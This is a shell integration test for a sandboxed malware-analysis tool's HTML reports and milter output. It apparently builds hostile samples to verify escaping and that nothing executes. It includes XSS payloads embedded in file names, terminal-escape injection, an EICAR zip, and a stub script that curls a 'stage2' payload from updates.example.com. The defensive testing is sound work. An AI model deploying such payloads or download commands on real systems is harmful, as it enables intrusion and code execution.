#!/bin/sh
# --html-report of analyze and mail scan: one self-contained page per scan, in which nothing
# runs or loads. A folder holds an HTML smuggling page (samples/invoice.html), a zip with the
# EICAR file and a member whose name is markup, a file whose name is markup and one whose name
# holds terminal escapes, and a shell script that runs curl and writes a file (detonated). The
# page is checked with python3's html.parser (html-report.py), then opened in Debian's
# Chromium, headless with its own sandbox inside airlock run as watch-browsers.sh does: it
# must render (a PNG screenshot) and its DOM after loading must be the static document. The
# milter's --html-reports writes the page beside each JSON report.
. "$AIRLOCK_SRC/tests/lib.sh"

W=$TEST_TMPDIR/html-report
CHECK="python3 $AIRLOCK_SRC/tests/integration/html-report.py"
mkdir -p "$W/in" "$W/pages" "$W/out" "$W/home"
export HOME=$W/home
chmod 755 "$W" "$W/pages"
# Chromium runs as an unprivileged uid when started as root: it must write its screenshot.
chmod 777 "$W/out"

HOSTILE='<script>alert(1)<script>"><img src=x onerror=alert(1)>'
MEMBER='<script>alert(1)</script>"><img src=x onerror=alert(1)>.txt'
cp "$AIRLOCK_SRC/samples/invoice.html" "$W/in/invoice.html"
: >"$W/in/$HOSTILE"
: >"$W/in/$(printf 'term\033[31mred')"
cat >"$W/in/fetch.sh" <<'EOF'
#!/bin/sh
curl -s http://updates.example.com/stage2 -o /tmp/stage2
echo done >/tmp/written-by-sample
EOF
chmod 755 "$W/in/fetch.sh"
python3 - "$W/in/e.zip" "$MEMBER" <<'EOF'
import sys, zipfile
eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("eicar.com", eicar)
    z.writestr(sys.argv[2], "hello\n")
EOF

"$AIRLOCK" analyze --detonate --html-report "$W/report.html" --report "$W/report.json" "$W/in" \
        >"$W/analyze.out" 2>"$W/analyze.err"
rc=$?
if [ $rc = 1 ] && [ -s "$W/report.html" ]; then
        pass "analyze --html-report writes the page (exit status 1: malicious files)"
else
        fail "analyze --html-report" "exit status $rc; $(head -c 600 "$W/analyze.err")"
        exit 0
fi

# Nothing runs or loads; the verdict first; hostile names escaped and shown as text;
# control characters visible; the ATT&CK ids of the findings linked; the sample's URLs text.
if out=$($CHECK check "$W/report.html" --verdict malicious \
        --text "$HOSTILE" --text "$MEMBER" \
        --raw '&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' \
        --raw 'term<span class="c">\x1b</span>[31mred' \
        --link /techniques/T1027/006/ \
        --text 'http://updates.example.com/stage2' --no-raw 'href="http://updates' \
        --text 'curl -s http://updates.example.com/stage2 -o /tmp/stage2' \
        --text '/tmp/written-by-sample' --text 'updates.example.com' \
        --text 'EICAR' --text 'Process tree' --text 'Files written' --text 'Timeline' \
        --raw 'alt="page screenshot" src="data:image/png;base64,iVBORw0KGgo'); then
        pass "analyze report: no script, no handler, no external resource; names escaped; detonation and page screenshot drawn"
else
        fail "analyze report checks" "$(printf %s "$out" | head -c 1500)"
fi
# The same report is in the JSON: the process tree and the network attempt of the script.
if python3 - "$W/report.json" <<'EOF'; then
import json, sys
r = json.load(open(sys.argv[1]))
def walk(n):
    yield n
    for c in n.get("children", []):
        yield from walk(c)
d = [n["detonation"] for f in r["files"] for n in walk(f) if n["name"] == "fetch.sh"][0]
argv = [c["argv"] for p in d["process_tree"] for c in p["children"] if "argv" in c]
assert ["curl", "-s", "http://updates.example.com/stage2", "-o", "/tmp/stage2"] in argv, argv
assert any(n.get("name") == "updates.example.com" for n in d["network"]), d["network"]
assert any(f["path"] == "/tmp/written-by-sample" for f in d["file_changes"]), d["file_changes"]
EOF
        pass "JSON report: the detonation's process tree, network attempt and file written"
else
        fail "JSON report detonation member"
fi

# A report path that is a symbolic link is refused, as run's --report: the target is untouched.
echo keep >"$W/target"
ln -s "$W/target" "$W/link.html"
"$AIRLOCK" analyze --html-report "$W/link.html" "$W/in/fetch.sh" >/dev/null 2>"$W/link.err"
rc=$?
if [ $rc = 2 ] && [ "$(cat "$W/target")" = keep ]; then
        pass "--html-report through a symbolic link is refused"
else
        fail "--html-report through a link" "exit status $rc, target now: $(head -c 100 "$W/target")"
fi

# mail scan: a message carrying the smuggling page as an attachment.
"$AIRLOCK" mail scan --html-report "$W/mail.html" "$AIRLOCK_SRC/samples/message-smuggling.eml" \
        >"$W/mail.out" 2>"$W/mail.err"
rc=$?
if [ $rc = 1 ] && out=$($CHECK check "$W/mail.html" --verdict suspicious --text invoice.html \
        --text 'text/html' --text 'subject' --link /techniques/T1027/006/); then
        pass "mail scan --html-report: the message, its parts and the attachment's findings"
else
        fail "mail scan --html-report" "exit status $rc: $(printf %s "$out" | head -c 800) $(head -c 300 "$W/mail.err")"
fi

# Chromium: the page renders, and nothing in it runs.
if ! command -v chromium >/dev/null 2>&1; then
        is_root && sh "$AIRLOCK_SRC/scripts/deps.sh" >/dev/null 2>&1
fi
if ! command -v chromium >/dev/null 2>&1; then
        fail "chromium" "Debian's chromium is not installed (scripts/deps.sh)"
        exit 0
fi
cp "$W/report.html" "$W/pages/report.html"
chmod 644 "$W/pages/"*
# chromium_run NAME ARGS...: headless Chromium in its airlock profile, the pages read-only.
chromium_run() {
        _n=$1
        shift
        timeout 120 "$AIRLOCK" run -p chromium --ro-bind "$W/pages" /srv/pages \
                --bind "$W/out" /srv/out -- chromium --headless --disable-gpu --no-first-run \
                --disable-background-networking --disable-component-update --disable-sync \
                --user-data-dir=/home/sandbox/.config/chromium/report-$$ "$@" \
                >"$W/out/$_n.stdout" 2>"$W/out/$_n.log"
}
chromium_run shot --window-size=1200,1600 --screenshot=/srv/out/report.png \
        file:///srv/pages/report.html
rc=$?
if [ "$(head -c 8 "$W/out/report.png" 2>/dev/null | od -An -tx1 | tr -d ' \n')" = 89504e470d0a1a0a ] &&
        [ "$(stat -c %s "$W/out/report.png")" -gt 10000 ]; then
        pass "Chromium renders the report (screenshot $(stat -c %s "$W/out/report.png") bytes)"
else
        fail "Chromium screenshot" "exit status $rc: $(tail -c 600 "$W/out/shot.log")"
fi
chromium_run dom --dump-dom file:///srv/pages/report.html
if [ -s "$W/out/dom.stdout" ] && out=$($CHECK same-dom "$W/report.html" "$W/out/dom.stdout"); then
        pass "Chromium's DOM of the loaded report is the static document: nothing ran"
else
        fail "report DOM after loading" "$(printf %s "$out" | head -c 800) $(tail -c 300 "$W/out/dom.log")"
fi
# The check can fail: the same report with its CSP removed and a script added is loaded, and
# the script's change to the DOM is seen.
sed -e '/Content-Security-Policy/d' \
        -e 's|<body>|<body><script>document.body.appendChild(document.createElement("hr"))</script>|' \
        "$W/report.html" >"$W/pages/control.html"
chmod 644 "$W/pages/control.html"
chromium_run control --dump-dom file:///srv/pages/control.html
if [ -s "$W/out/control.stdout" ] && ! $CHECK same-dom "$W/pages/control.html" "$W/out/control.stdout" >/dev/null; then
        pass "the DOM check sees a script that ran (the report without its CSP, a script added)"
else
        fail "DOM check control" "the control page's DOM did not change: $(tail -c 300 "$W/out/control.log")"
fi

# The milter's report folder: with --html-reports, NAME.html beside each NAME.json. A client
# speaking the milter protocol sends the smuggling message (as milter-protocol.sh).
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
mkdir -p "$W/reports"
"$AIRLOCK" milter --socket "inet:$port@127.0.0.1" --user nobody --report-dir "$W/reports" \
        --html-reports 2>"$W/milter.log" &
mpid=$!
if wait_for 30 python3 -c "import socket; socket.create_connection(('127.0.0.1', $port), 1)"; then
        python3 - "$port" "$AIRLOCK_SRC/samples/message-smuggling.eml" >"$W/milter.out" 2>&1 <<'PY'
import socket, struct, sys

s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 60)
s.settimeout(60)
def send(cmd, data=b""):
    s.sendall(struct.pack(">I", len(data) + 1) + cmd + data)
def recv():
    hdr = b""
    while len(hdr) < 4:
        hdr += s.recv(4 - len(hdr))
    n = struct.unpack(">I", hdr)[0]
    body = b""
    while len(body) < n:
        body += s.recv(n - len(body))
    return body[:1], body[1:]
def final():
    while True:
        cmd, data = recv()
        if cmd in b"acdrty":
            return cmd
send(b"O", struct.pack(">III", 6, 0x1ff, 0))
recv()
send(b"C", b"client.example\0" + b"4" + struct.pack(">H", 25) + b"127.0.0.1\0")
final()
send(b"M", b"<a@example.org>\0")
final()
send(b"R", b"<b@example.org>\0")
final()
raw = open(sys.argv[2], "rb").read().replace(b"\r\n", b"\n")
head, _, body = raw.partition(b"\n\n")
for line in head.decode().replace("\n ", " ").replace("\n\t", " ").split("\n"):
    k, _, v = line.partition(":")
    send(b"L", k.encode() + b"\0" + v.strip().encode() + b"\0")
    final()
send(b"N")
final()
body = body.replace(b"\n", b"\r\n")
for i in range(0, len(body), 60000):
    send(b"B", body[i:i + 60000])
    final()
send(b"D", b"Ei\0HTMLREP1\0")
send(b"E")
print("eom", final().decode())
send(b"Q")
PY
fi
kill "$mpid" 2>/dev/null
wait "$mpid" 2>/dev/null
j=$(ls "$W/reports/"*.json 2>/dev/null | head -n 1)
h=${j%.json}.html
if [ -n "$j" ] && [ -s "$h" ] && out=$($CHECK check "$h" --verdict suspicious --text invoice.html \
        --text HTMLREP1 --link /techniques/T1027/006/); then
        pass "milter --html-reports: $(basename "$h") beside $(basename "$j")"
else
        fail "milter --html-reports" "reports: $(ls -A "$W/reports" | tr '\n' ' '); $(printf %s "$out" | head -c 500); $(cat "$W/milter.out"); $(tail -n 5 "$W/milter.log")"
fi
